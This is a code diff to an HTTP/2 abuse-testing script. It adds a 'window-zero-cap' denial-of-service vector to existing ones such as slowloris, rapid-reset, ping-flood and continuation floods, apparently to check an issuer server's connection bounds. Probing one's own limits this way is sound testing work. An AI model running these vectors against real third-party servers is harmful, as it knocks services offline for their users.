@@ -4,7 +4,7 @@ issuer's external HTTPS listener for a fixed time, with as many connections as a
 reopened as soon as the server drops it (so the attack holds whatever the bounds let it hold).
 
 Usage: abuse-attack.py VECTOR HOST PORT CONNECTIONS SECONDS
-Vectors: idle, slowloris, slow-body, h2-streams, window-zero, rapid-reset, ping-flood, continuation.
+Vectors: idle, slowloris, slow-body, h2-streams, window-zero, window-zero-cap, rapid-reset, ping-flood, continuation.
 Prints one line: vector=... opened=N dropped=N frames=N (frames or requests written).
 """
 
@@ -113,6 +113,18 @@ async def window_zero(host, port, stop):
     await drain_reader(reader)
 
 
+async def window_zero_cap(host, port, stop):
+    """As window-zero, with only as many streams as the issuer accepts per connection (8): none
+    is refused, so each connection holds its answers until the answer bound drops it."""
+    reader, writer = await connect(host, port, "h2")
+    out = bytearray(PREFACE + frame(0x4, 0, 0, struct.pack(">HI", 0x4, 0)))
+    for i in range(8):
+        out += frame(0x1, 0x5, 2 * i + 1, DISCOVERY)
+        Counts.written += 1
+    writer.write(bytes(out))
+    await drain_reader(reader)
+
+
 async def rapid_reset(host, port, stop):
     reader, writer = await connect(host, port, "h2")
     closed = asyncio.ensure_future(drain_reader(reader))
@@ -169,6 +181,7 @@ VECTORS = {
     "slow-body": slow_body,
     "h2-streams": h2_streams,
     "window-zero": window_zero,
+    "window-zero-cap": window_zero_cap,
     "rapid-reset": rapid_reset,
     "ping-flood": ping_flood,
     "continuation": continuation,
